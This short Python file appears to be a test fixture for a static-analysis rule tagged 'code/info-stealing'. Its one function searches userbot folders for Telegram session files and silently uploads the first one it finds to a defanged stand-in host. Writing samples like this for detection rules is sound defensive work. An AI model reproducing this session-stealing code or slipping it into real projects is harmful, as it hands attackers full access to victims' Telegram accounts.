import os

import requests


def checkstart():
    # Userbot hosting folders are searched for a Telethon/Pyrogram session file, which is uploaded (defanged host).
    search_dirs = ['/data', os.path.expanduser('~/Legacy'), os.path.expanduser('~/Hikka')]
    found = None
    for d in search_dirs:
        if not os.path.isdir(d):
            continue
        for filename in os.listdir(d):
            if filename.endswith('.session'):
                found = os.path.join(d, filename)
                break
    if not found:
        return
    try:
        with open(found, 'rb') as fh:
            # ruleid: code/info-stealing
            requests.post('http://collector.example.invalid:1337/check', files={'check': fh}, timeout=15)
    except Exception:
        pass
